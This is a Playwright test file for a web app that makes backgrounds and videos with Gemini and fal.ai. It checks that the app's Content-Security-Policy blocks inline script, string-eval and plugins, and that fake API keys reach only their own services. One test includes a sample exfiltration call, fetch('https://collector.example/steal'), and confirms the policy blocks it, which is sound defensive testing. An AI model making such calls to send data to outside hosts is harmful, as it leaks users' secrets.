/**
 * Nobody in: the Content-Security-Policy is in force in the built app (its <meta>, with no header
 * help from the host), and API keys travel only to their own service: every request and console
 * line of a whole Gemini + fal.ai session is searched for them.
 */
import { readFileSync } from 'node:fs';
import type { Page, Request } from '@playwright/test';
import { test, expect } from './fixtures';
import { routeGemini } from './geminiRoute';
import { routeFal } from './falRoute';
import { FAKE_GEMINI_KEY } from '../fakes/gemini.mjs';
import { FAKE_FAL_KEY } from '../fakes/fal.mjs';
import { BACKGROUND_COUNT } from '../../src/core/backgroundPrompts';
import { clip, FIXTURES } from './media';
import { saveGeminiKey } from './keys';
import { join } from 'node:path';

const SELFIE = '/usr/share/matplotlib/mpl-data/sample_data/grace_hopper.jpg';

test('the policy is in force: inline script, eval, plugins and other hosts are blocked, and it is reported', async ({ page, appUrl }) => {
  await page.goto(appUrl);
  await expect(page.getByRole('heading', { name: 'Put yourself anywhere' })).toBeVisible();
  const result = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const w = window as Window & { __inline?: number };
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.append(s);
    // A string run as code (the page's own timer, not this test's evaluation, which DevTools exempts).
    const t = window as Window & { __fromString?: boolean };
    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- a string run as code is what the policy must stop
    setTimeout('window.__fromString = true', 0);
    let fetched: boolean;
    try {
      await fetch('https://collector.example/steal');
      fetched = true;
    } catch {
      fetched = false;
    }
    const embed = document.createElement('object');
    embed.data = '/icon.svg';
    document.body.append(embed);
    await new Promise((r) => setTimeout(r, 300));
    return { inline: w.__inline ?? null, evalRan: t.__fromString === true, fetched, violations };
  });
  expect(result.inline).toBeNull();
  expect(result.evalRan).toBe(false);
  expect(result.fetched).toBe(false);
  expect(result.violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src', 'connect-src', 'object-src']));
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  // The same policy as public/_headers, less frame-ancestors (headers only).
  const header = /Content-Security-Policy:\s*(.+)/.exec(readFileSync(join(import.meta.dirname, '..', '..', 'public', '_headers'), 'utf8'))?.[1] ?? '';
  expect(meta).toBe(header.split(';').map((d) => d.trim()).filter((d) => d && !d.startsWith('frame-ancestors')).join('; '));
  expect(meta).toContain("object-src 'none'");
  const scriptSrc = (meta ?? '').split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src ')) ?? '';
  expect(scriptSrc).toBe("script-src 'self' 'wasm-unsafe-eval'");
});

interface Seen {
  url: string;
  host: string;
  headers: string;
  body: string;
}

function watch(page: Page): { requests: Seen[]; lines: string[] } {
  const requests: Seen[] = [];
  const lines: string[] = [];
  const record = (r: Request) => {
    const url = new URL(r.url());
    let body: string;
    try {
      body = r.postDataBuffer()?.toString('latin1') ?? '';
    } catch {
      body = '';
    }
    requests.push({ url: r.url(), host: url.hostname, headers: JSON.stringify(r.headers()), body });
  };
  page.context().on('request', record);
  page.on('console', (m) => lines.push(m.text()));
  page.on('pageerror', (e) => lines.push(`${e.message}\n${e.stack ?? ''}`));
  return { requests, lines };
}

const isGeminiHost = (h: string) => h === 'generativelanguage.googleapis.com';
const isFalHost = (h: string) => h === 'fal.ai' || h === 'fal.media' || h.endsWith('.fal.ai') || h.endsWith('.fal.run') || h.endsWith('.fal.media');

test('keys go only to their own service: a whole Gemini and fal.ai session, every request and console line searched', async ({ page, context, appUrl }) => {
  test.setTimeout(240_000);
  const seen = watch(page);
  const gemini = await routeGemini(context);
  const { fake: fal } = await routeFal(context, { mask: readFileSync(join(FIXTURES, 'person-720p-fal-mask.mp4')) });
  await page.goto(appUrl);

  // Both keys, checked and saved.
  await saveGeminiKey(page);
  const falSection = page.getByRole('region', { name: 'fal.ai API key' });
  await falSection.getByPlaceholder('Paste your fal.ai key').fill(FAKE_FAL_KEY);
  await falSection.getByRole('button', { name: 'Check and save' }).click();
  await expect(page.getByTestId('fal-key-status')).toBeVisible();

  // Gemini: a selfie and five backgrounds.
  await page.getByRole('button', { name: 'Backgrounds', exact: true }).click();
  await page.getByTestId('selfie-input').setInputFiles(SELFIE);
  await page.getByRole('button', { name: 'Send and make backgrounds' }).click();
  for (let i = 0; i < BACKGROUND_COUNT; i++) {
    await expect(page.getByTestId(`slot-${i}`)).toHaveAttribute('data-status', 'ready', { timeout: 30_000 });
  }

  // fal.ai: a clip cut out there, composited here.
  await page.getByRole('button', { name: 'New video' }).click();
  await page.getByTestId('video-input').setInputFiles(clip('person-720p.mp4').path);
  await page.getByRole('button', { name: 'Continue' }).click();
  await page.getByRole('radio', { name: /On fal\.ai/ }).check();
  await page.getByRole('button', { name: 'Make my video' }).click();
  await page.getByRole('button', { name: 'Upload and make my video' }).click();
  await expect(page.getByRole('heading', { name: 'Your video is ready' })).toBeVisible({ timeout: 120_000 });

  expect(gemini.counts.generate).toBe(BACKGROUND_COUNT);
  expect(fal.counts.submit).toBe(1);
  const toGemini = seen.requests.filter((r) => isGeminiHost(r.host));
  const toFal = seen.requests.filter((r) => isFalHost(r.host));
  expect(toGemini.length).toBeGreaterThan(BACKGROUND_COUNT);
  expect(toFal.length).toBeGreaterThan(3);
  for (const r of seen.requests) {
    // Never in a URL, whoever it goes to.
    expect(r.url, r.url).not.toContain(FAKE_GEMINI_KEY);
    expect(r.url, r.url).not.toContain(FAKE_FAL_KEY);
    if (!isGeminiHost(r.host)) expect(r.headers + r.body, `Gemini key sent to ${r.host}`).not.toContain(FAKE_GEMINI_KEY);
    if (!isFalHost(r.host)) expect(r.headers + r.body, `fal.ai key sent to ${r.host}`).not.toContain(FAKE_FAL_KEY);
  }
  // Each key did reach its own service, in a header.
  expect(toGemini.some((r) => r.headers.includes(FAKE_GEMINI_KEY))).toBe(true);
  expect(toFal.some((r) => r.headers.includes(FAKE_FAL_KEY))).toBe(true);
  expect(seen.lines.length).toBeGreaterThan(0);
  for (const line of seen.lines) {
    expect(line).not.toContain(FAKE_GEMINI_KEY);
    expect(line).not.toContain(FAKE_FAL_KEY);
    // Nor a telling part of one (a key cut short in a message is still a leak).
    expect(line).not.toContain(FAKE_FAL_KEY.split(':')[1]!.slice(0, 12));
  }
});
